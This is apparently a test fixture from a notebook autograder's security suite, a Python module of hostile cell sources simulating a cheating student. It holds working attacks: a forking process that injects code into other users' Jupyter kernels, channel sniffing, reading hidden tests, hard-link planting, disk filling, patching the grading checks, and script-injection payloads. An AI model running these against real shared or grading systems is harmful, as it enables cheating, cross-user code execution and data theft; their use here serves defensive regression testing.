"""Code a hostile student puts in a notebook: one attack per function, as cell source.

Each attack is what was seen working against the grader before its jail (issue 12) or a close
variant: processes that outlive the kernel, spying on other kernels' channels, reading the
hidden tests, planting links, leaving files, and tampering with the test machinery. Attacks
print ``read:``, ``connected:``, ``captured:`` or ``wrote:`` lines when they succeed, so a test
can find in the graded notebook what got through. Names of planted files contain ``PWNED``.
"""
from __future__ import annotations

PWNED = "pwned"

# the tricks that make test cells pass without a right answer: they blank, gut or silence them
TAMPER = {
    "transformer": '''
def _blank(lines):
    return ["pass\\n"] if any("check_" in line for line in lines) else lines
get_ipython().input_transformers_cleanup.append(_blank)
''',
    "ast-transformer": '''
import ast as _ast
class _Gut(_ast.NodeTransformer):
    def visit_Module(self, node):
        return _ast.Module(body=[_ast.Pass()], type_ignores=[]) if "check_" in _ast.unparse(node) else node
get_ipython().ast_transformers.append(_Gut())
''',
    "manager-swap": '''
from IPython.core.inputtransformer2 import TransformerManager as _TM
class _Blank(_TM):
    def transform_cell(self, cell):
        return "pass\\n" if "check_" in cell else super().transform_cell(cell)
get_ipython().input_transformer_manager = _Blank()
''',
    "noop-checks": '''
import contextlib as _cl, course.checks as _c
def _ok(*args, **kwargs):
    return None
for _n in ("check_close", "check_equal", "check_shape", "check_raises"):
    getattr(_c, _n).__code__ = _ok.__code__
    setattr(_c, _n, _ok)
_c.checking = lambda *args: _cl.nullcontext()
''',
    "module-swap": '''
import sys as _sys, types as _types, contextlib as _cl
_fake = _types.ModuleType("course.checks")
for _n in ("check_close", "check_equal", "check_shape", "check_raises"):
    setattr(_fake, _n, lambda *args, **kwargs: None)
_fake.checking = lambda *args: _cl.nullcontext()
_fake.library_twin_disabled = lambda *args: _cl.nullcontext()
_fake.CheckFailed = AssertionError
_sys.modules["course.checks"] = _fake
''',
    "silenced-errors": '''
_ip = get_ipython()
_ip.set_custom_exc((Exception,), lambda self, etype, value, tb, tb_offset=None: None)
type(_ip).showtraceback = lambda self, *args, **kwargs: None
_ip._showtraceback = lambda *args, **kwargs: None
''',
    "thread-repatch": '''
import threading as _th, time as _time
def _blank(lines):
    return ["pass\\n"] if any("check_" in line for line in lines) else lines
def _keep():
    ip = get_ipython()
    while True:
        if _blank not in ip.input_transformers_cleanup:
            ip.input_transformers_cleanup.append(_blank)
        _time.sleep(0.0005)
_th.Thread(target=_keep, daemon=True).start()
''',
}


def survivor(student: str) -> str:
    """A process that leaves the kernel, changes pid every few milliseconds, and executes code
    in any other kernel whose connection file it can read: every cell of that kernel raises."""
    return f'''
import os as _os, sys as _sys, time as _time, glob as _glob
from jupyter_client import BlockingKernelClient as _Client
def _survive():
    done = {{_os.path.realpath(a) for a in _sys.argv if a.endswith(".json")}}  # its own kernel
    end, step = _time.time() + 60, 0
    while _time.time() < end:
        if _os.fork():
            _os._exit(0)  # the parent leaves: the child carries on under a new pid
        step += 1
        paths = [] if step % 10 else (_glob.glob("/tmp/autograder-*/jobs/*/home/.kernel.json")
                                      + _glob.glob("/ipc/*.json"))
        for path in paths:
            if _os.path.realpath(path) in done:
                continue
            try:
                kc = _Client(connection_file=path)
                kc.load_connection_file()
                kc.start_channels()
                kc.execute("get_ipython().input_transformers_cleanup.append("
                           "lambda lines: ['raise RuntimeError(\\"{PWNED} by {student}\\")\\\\n'])")
                done.add(_os.path.realpath(path))
                open(f"/tmp/{PWNED}-{student}-hit", "a").write(path + "\\n")
            except Exception:
                pass
        _time.sleep(0.002)
if _os.fork() == 0:
    _os.setsid()
    try:
        _survive()
    finally:
        _os._exit(0)
'''


SPY_START = '''
import glob as _glob, json as _json, pwd as _pwd, socket as _socket, sys as _sys
import threading as _th, time as _time
import zmq as _zmq
_captured, _open_ports = [], []
def _listening():
    """(port, uid) of every listening TCP socket this kernel can see."""
    out = []
    for table in ("/proc/net/tcp", "/proc/net/tcp6"):
        try:
            rows = open(table).read().splitlines()[1:]
        except OSError:
            continue
        for row in rows:
            f = row.split()
            if f[3] == "0A":
                out.append((int(f[1].rsplit(":", 1)[1], 16), int(f[7])))
    return out
def _spy():
    own = _json.load(open(_sys.argv[_sys.argv.index("-f") + 1]))  # this kernel's own channels
    mine = {own[k] for k in own if k.endswith("_port")}
    kernels = {e.pw_uid for e in _pwd.getpwall() if e.pw_name.startswith("autograder-sb")}
    sub = _zmq.Context.instance().socket(_zmq.SUB)
    sub.setsockopt(_zmq.SUBSCRIBE, b"")
    seen = set()
    end = _time.time() + 30
    while _time.time() < end:  # kernels come and go: look again and again
        for port, uid in set(_listening()) - seen:
            seen.add((port, uid))
            if port in mine:
                continue
            with _socket.socket() as s:  # any service on the machine's loopback
                s.settimeout(0.5)
                if s.connect_ex(("127.0.0.1", port)) == 0:
                    _open_ports.append(port)
            if uid in kernels:  # another student's kernel: listen to its output
                sub.connect(f"tcp://127.0.0.1:{port}")
        for path in _glob.glob("/tmp/**/kernel*-*", recursive=True) + _glob.glob("/ipc/kernel*-*"):
            if path not in seen and not any(path == f"{own['ip']}-{port}" for port in mine):
                seen.add(path)
                sub.connect(f"ipc://{path}")  # other kernels' unix sockets
        while sub.poll(200):
            _captured.append(b"".join(sub.recv_multipart()))
_th.Thread(target=_spy, daemon=True).start()
'''
SPY_REPORT = '''
_time.sleep(3)
for _port in _open_ports:
    print("connected:", _port)  # the kernel's own debugger port, inside its jail, is expected
_theirs = [m for m in _captured if b"BEGIN HIDDEN" in m or b"execute_input" in m]
print("captured:", len(_theirs), "messages of other kernels;", b"".join(_theirs)[:3000])
'''


def reader(targets: list[str]) -> str:
    """Reads the hidden tests, gradebooks, grades, logs and the grader's command line."""
    return f'''
import glob as _glob, os as _os
for _t in {targets!r} + _glob.glob("/proc/*/cmdline"):
    for _p in _glob.glob(_t) or [_t]:
        try:
            _data = open(_p, "rb").read()
            if _p.startswith("/proc/") and b"autograder" not in _data:
                continue
            print("read:", _p, len(_data), "bytes")
        except Exception as _e:
            print("blocked:", _p, type(_e).__name__)
'''


def planter(student: str, notebook: str) -> str:
    """A hard link where the grader writes the graded notebook, and extra files beside it."""
    return f'''
import os as _os
for _base in ("/tmp", _os.path.expanduser("~"), "."):
    try:
        _target = _os.path.join(_base, "{PWNED}-{student}-link-target")
        open(_target, "w").write("")
        _os.link(_target, "{notebook}.ipynb")
        print("wrote: a hard link to", _target)
        break
    except Exception as _e:
        print("blocked:", _base, type(_e).__name__)
for _name in ("{PWNED}-{student}-extra.ipynb", "{PWNED}-{student}-extra.py"):
    open(_name, "w").write("{{}}")
'''


def litter(student: str, mb: int) -> str:
    """Files in every writable shared place: /tmp, /dev/shm, /var/tmp, /run/lock, HOME."""
    return f'''
import os as _os
for _dir in ("/tmp", "/dev/shm", "/var/tmp", "/run/lock", "/dev/mqueue", _os.path.expanduser("~")):
    _path = _os.path.join(_dir, "{PWNED}-{student}")
    try:
        with open(_path, "wb") as _fh:
            for _ in range({mb}):
                _fh.write(b"x" * 2**20)
        print("wrote:", _path, "{mb} MB")
    except Exception as _e:
        print("blocked:", _path, type(_e).__name__)
'''


# --- against the verdicts themselves (issue 21): each worked while tests ran in the kernel ------

def verdict_attacks(functions: list[str]) -> dict[str, str]:
    """Code appended to every exercise cell (``functions``: the exercises' function names),
    with wrong answers: each trick would earn points if a test's verdict were reached in the
    kernel. Under grading the verdict is the judge's, so each must score what its answers earn."""
    names = repr(functions)
    return {
        # checking() and the helpers become no-ops by swapping the module's class
        "class-swap": '''
import sys as _s, types as _t, contextlib as _cl
class _Open(_t.ModuleType):
    pass
_m = _s.modules["course.checks"]
_t.ModuleType.__setattr__(_m, "__class__", _Open)
for _n in ("check_close", "check_equal", "check_shape", "check_vectorized", "check_raises"):
    setattr(_m, _n, lambda *a, **k: None)
_m.checking = lambda *a: _cl.nullcontext()
''',
        # NumPy's isclose, the heart of check_close, answers True to everything
        "isclose-code": '''
import numpy as _np
def _always(a, b, rtol=1e-05, atol=1e-08, equal_nan=False):
    return __import__("numpy").ones(__import__("numpy").broadcast(a, b).shape, dtype=bool)
_np.isclose._implementation.__code__ = _always.__code__
''',
        # an answer that equals anything, and as an array reads the expected value off the
        # test's stack (check_close's frame) through a computed getattr
        "always-equal": f'''
import sys as _s, numpy as _np
class _Eq:
    def __eq__(self, other):
        return True
    def __array__(self, dtype=None, copy=None):
        f = getattr(_s, "_get" + "frame")(1)
        while f is not None:
            if "expected" in f.f_locals and hasattr(f.f_locals["expected"], "shape"):
                return _np.asarray(f.f_locals["expected"])
            f = f.f_back
        return _np.zeros(1)
for _n in {names}:
    globals()[_n] = lambda *a, **k: _Eq()
''',
        # a profiling signal keeps re-patching the helpers, even while the guard restores
        "sigprof": '''
import signal as _sig, course.checks as _c
def _patch(*_):
    for _n in ("check_close", "check_equal", "check_shape"):
        try:
            getattr(_c, _n).__code__ = (lambda *a, **k: None).__code__
        except Exception:
            pass
_sig.signal(_sig.SIGPROF, _patch)
_sig.setitimer(_sig.ITIMER_PROF, 0.0005, 0.0005)
''',
        # the expected values, hunted in the kernel's heap and up the caller's stack
        "hunts-expected": f'''
import gc as _gc, sys as _s, numpy as _np
def _hunt(*args, **kwargs):
    first = _np.asarray(args[0]) if args else None
    f = _s._getframe(1)
    while f is not None:
        for k, v in list(f.f_locals.items()):
            if "want" in k or "expected" in k:
                return v
        f = f.f_back
    found = [o for o in _gc.get_objects() if isinstance(o, _np.ndarray) and first is not None
             and o.shape[:1] == first.shape[:1] and o is not first and o.ndim == first.ndim]
    return found[-1] if found else None
for _n in {names}:
    globals()[_n] = _hunt
''',
    }


#: correct answers, then a cell that prints the kernel's history, where the tests once were
PRINTS_HISTORY = "print('history:', In)\nprint('outputs:', Out)\n"
#: correct answers; the kernel tries to fill its socket folder (it lives on the host)
FILLS_IPC = f'''
try:
    with open("/ipc/{PWNED}-fill", "wb") as _fh:
        for _ in range(600):
            _fh.write(b"x" * 2**20)
    print("wrote: /ipc 600 MB")
except Exception as _e:
    print("blocked: /ipc", type(_e).__name__)
'''
#: markdown and output that would run script in the browser of whoever opens the feedback
SCRIPT_MARKDOWN = ('<script>window.pwned = 1</script> <img src=x onerror="window.pwned = 2"> '
                   '<a href="javascript:window.pwned = 3">link</a> '
                   '<svg><script>window.pwned = 4</script></svg>')
SCRIPT_OUTPUT = f"from IPython.display import HTML, display\ndisplay(HTML({SCRIPT_MARKDOWN!r}))\n"
